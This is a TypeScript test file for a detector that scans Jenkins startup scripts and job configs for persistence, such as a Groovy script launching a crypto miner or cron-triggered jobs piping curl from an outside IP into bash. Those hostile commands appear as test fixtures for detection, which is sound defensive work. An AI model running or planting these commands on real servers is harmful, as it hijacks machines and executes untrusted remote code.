import { expect, test } from 'vitest';
import { machineOf, runProbe } from '../../../tests/machine-tree.ts';
import { because, openSightings, sightings } from '../../../tests/told.ts';
import { jenkins } from './jenkins.ts';

const home = '/var/lib/jenkins';
const start = `${home}/init.groovy.d/startup.groovy`;
const jobAt = (name: string): string => `${home}/jobs/${name}/config.xml`;

function job(inner: string, schedule: string = 'H/5 * * * *'): string {
  const trigger = `<hudson.triggers.TimerTrigger><spec>${schedule}</spec></hudson.triggers.TimerTrigger>`;
  return `<?xml version='1.1' encoding='UTF-8'?>\n<project>\n<disabled>false</disabled>\n<triggers>${trigger}</triggers>\n<builders>${inner}</builders>\n</project>\n`;
}
const shell = (command: string): string => `<hudson.tasks.Shell><command>${command}</command></hudson.tasks.Shell>`;

test('a script that starts a miner when Jenkins does is told, with what it starts', () => {
  const line = `["/bin/bash", "-c", "nohup ${home}/.cache/java -o pool.example.com:3333 -u x --donate-level 1 &"].execute()`;
  const [told, ...others] = openSightings(jenkins, {
    '/etc/passwd': 'root:x:0:0::/root:/bin/sh\njenkins:x:115:115::/var/lib/jenkins:/bin/sh\n',
    [start]: { content: `import jenkins.model.*\n\n${line}\n`, uid: 115 },
    [`${home}/.cache/java`]: '',
  });
  expect(told).toMatchObject({
    path: start,
    line: 3,
    value: {
      entry: line,
      starts: `nohup ${home}/.cache/java -o pool.example.com:3333 -u x --donate-level 1 &`,
      programs: expect.arrayContaining([start, `${home}/.cache/java`]),
      when: 'when Jenkins starts',
      user: 'jenkins',
    },
    ...because('mines'),
  });
  expect(others).toEqual([]);
});

test('a job that fetches and runs by the clock is told, with its name and times, a switched-off one as such', () => {
  const fetches = 'curl -fsSL http://198.51.100.7/j.sh | bash';
  const files = {
    [jobAt('sys-check')]: job(shell(`cd /srv &amp;&amp; true\n${fetches}`)),
    [jobAt('old')]: job(shell(fetches)).replace('false</disabled>', 'true</disabled>'),
    [jobAt('team/jobs/deep')]: job(shell(`<![CDATA[${fetches}]]>`)),
    [jobAt('pipe')]:
      `<flow-definition><definition><script>pipeline { triggers { cron(&apos;H * * * *&apos;) }\n steps { sh &quot;${fetches}&quot; } }</script></definition></flow-definition>`,
  };
  const when = 'H/5 * * * *, by Jenkins';
  expect(openSightings(jenkins, files)).toMatchObject([
    { value: { name: 'old', enabled: false } },
    { value: { name: 'pipe', when: 'H * * * *, by Jenkins', starts: expect.stringContaining(fetches) } },
    { value: { name: 'sys-check', when, starts: fetches, enabled: true }, ...because('fetches-and-runs') },
    { value: { name: 'deep', starts: fetches } },
  ]);
});

test('ordinary jobs and scripts are told aside, and jobs that nothing starts by the clock not at all', () => {
  const files = {
    [jobAt('shop')]: job(shell('npm ci &amp;&amp; npm test')),
    [jobAt('pushed')]: `<project><builders>${shell('curl http://198.51.100.7/x | sh')}</builders></project>`,
    [`${home}/jobs/shop/builds/1/config.xml`]: job(shell('curl http://198.51.100.7/x | sh')),
    [start]:
      '/* fetched by\n curl http://198.51.100.7/x | sh */\n// "nohup /tmp/x &"\nimport jenkins.model.Jenkins\nJenkins.instance.setNumExecutors(2)\nJenkins.instance.systemMessage = "ask \\"ops\\""\n',
    '/etc/app/jobs/config.xml': '<project/>',
  };
  expect(openSightings(jenkins, files)).toEqual([]);
  expect(sightings(jenkins, files).map(({ path }) => path)).toEqual([start, jobAt('shop')]);
});

test('hostile files end, and are no crash', () => {
  const files = {
    [jobAt('a')]: `<TimerTrigger><spec>H * * * *</spec>${'<command>'.repeat(20_000)}`,
    [jobAt('b')]: job(shell('&#1114112;&#x110000;&nope;&amp')),
    [start]: `${`${'"\\'.repeat(4_000)}\n`.repeat(100)}${"'".repeat(9_999)}`,
  };
  expect(() => runProbe(jenkins, machineOf(files))).not.toThrow();
});
